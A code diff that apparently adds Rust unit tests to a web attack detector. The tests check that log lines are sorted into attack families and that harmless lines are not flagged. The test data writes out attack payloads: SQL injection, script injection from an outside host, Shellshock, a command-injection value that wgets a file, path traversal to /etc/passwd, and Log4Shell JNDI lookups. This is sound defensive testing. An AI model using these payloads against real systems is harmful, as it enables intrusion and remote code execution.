@@ -90,3 +90,76 @@ fn a_restored_detector_goes_on_as_the_first_would() {
     }
     assert!(detector().restore(b"{}").is_err());
 }
+
+/// The family found in a line of text, whether it holds a request or not.
+fn families(line: &str) -> Vec<Family> {
+    let found = Scorer::default().score_line(line);
+    found.iter().map(|finding| finding.family).collect()
+}
+
+#[test]
+fn texts_of_other_logs_that_show_attacks() {
+    for (line, family) in [
+        ("login user=admin' or 1=1 --", Family::Sqli),
+        ("user \"x' union select password from users --\" not found", Family::Sqli),
+        ("POST /comment body=<img src=x onerror=alert(1)>", Family::Xss),
+        ("comment saved: <script src=//203.0.113.9/x.js></script>", Family::Xss),
+        ("GET /cgi-bin/x HTTP/1.1 \"() { :;}; /bin/eject\"", Family::Rce),
+        ("cannot resolve host `1.1.1.1; wget http://203.0.113.9/x`", Family::Rce),
+        ("open failed: /var/www/../../../etc/passwd", Family::Traversal),
+        ("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", Family::Php),
+        ("User-Agent: ${jndi:ldap://203.0.113.1:1389/a}", Family::Log4shell),
+        ("GET /?x=${${lower:j}ndi:ldap://x/a} HTTP/1.1", Family::Log4shell),
+        ("GET / HTTP/1.1 \"sqlmap/1.7.2#stable (https://sqlmap.org)\"", Family::Scanner),
+        ("GET /x HTTP/1.1 \"Mozilla/5.00 (Nikto/2.1.6)\"", Family::Scanner),
+        ("Mozilla/5.0 zgrab/0.x", Family::Scanner),
+        ("GET /uploads/c99.php HTTP/1.1", Family::Webshell),
+        ("POST /images/shell.php?cmd=id HTTP/1.1", Family::Webshell),
+        ("file written: eval($_post['x'])", Family::Php),
+    ] {
+        assert!(families(line).contains(&family), "{line}: {:?}", families(line));
+    }
+}
+
+#[test]
+fn texts_of_other_logs_that_show_none() {
+    for line in [
+        "the select committee and the union met",
+        "trying 2 or more replicas",
+        "page loaded in 120 ms",
+        "GET /docs/../docs/index.html HTTP/1.1",
+        "chpasswd: user bob does not exist in /etc/passwd",
+        "reading environment from prod.env",
+        "posted 3 items; id 42 updated",
+        "resolved jndi:comp/env/jdbc/orders",
+        "template ${user.name} rendered",
+        "GET / HTTP/1.1 \"Mozilla/5.0 (X11; Linux x86_64)\"",
+        "GET /powershell.html HTTP/1.1",
+        "opened a web view",
+        "(root) CMD (run-parts /etc/cron.hourly)",
+        "sudo: ann : COMMAND=/bin/sh -c 'cat /var/log/syslog | tail'",
+        "LOG: statement: SELECT id FROM orders WHERE 1=1 AND name = 'ann' OR city = 'Bonn'",
+        "LOG: duration: 2.1 ms statement: INSERT INTO t (a, b) VALUES ('x', 'y'); SELECT 1",
+        "SyntaxError: unexpected token '<' in JSON at position 0",
+        "Deprecation: eval() and system() will go; use exec('x')",
+        "can't find host 'or' in table",
+        "pattern ^\\s*a*$ did not match {\"a\":[1,2,3]}",
+        "java.lang.NullPointerException at com.example.Main.main(Main.java:10)",
+        "kernel: audit: type=1400 comm=\"bash\" exe=\"/bin/bash\"",
+    ] {
+        assert_eq!(families(line), [], "{line}");
+    }
+}
+
+#[test]
+fn keys_are_bounded_and_metrics_are_not_looked_at() {
+    let mut config = DetectConfig::default();
+    config.web.limits.keys_max = 10;
+    let mut detector = Web::new(&config);
+    let lines: Vec<Line> =
+        (0..50).map(|n| access(n, &format!("192.0.2.{n}"), "/?q=<script>alert(1)</script>", 200)).collect();
+    assert_eq!(feed(&mut detector, &logs(&lines)).verdicts.len(), 50);
+    assert_eq!((detector.state_keys(), detector.counters().evicted), (10, 40));
+    let sample = crate::testing::metric(60, "A", "<script>", 1.0);
+    assert_eq!(feed(&mut detector, &crate::testing::metrics(&[sample])), Findings::default());
+}
